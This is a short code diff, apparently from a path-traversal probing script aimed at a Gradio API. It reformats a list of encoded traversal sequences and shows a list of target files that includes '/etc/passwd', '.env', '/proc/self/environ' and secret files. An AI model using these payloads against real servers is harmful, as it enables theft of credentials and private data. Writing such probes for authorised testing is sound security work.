@@ -21,16 +21,8 @@ PATIENCE = 60.0
 _CLIENTS = 6
 _API = "/gradio_api"
 _UP = (
-    "../",
-    "..%2f",
-    "%2e%2e/",
-    "%2e%2e%2f",
-    "..\\",
-    "..%5c",
-    "%252e%252e%252f",
-    "....//",
-    "%c0%ae/",
-)
+    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "%252e%252e%252f", "....//", "%c0%ae/",
+)  # fmt: skip
 _FILES = (
     "etc/passwd", "staff/users.json", "staff/secret", "journal/journal.sqlite", ".env", "app.py",
     "proc/self/environ", "index/CURRENT", "rag/config.py",
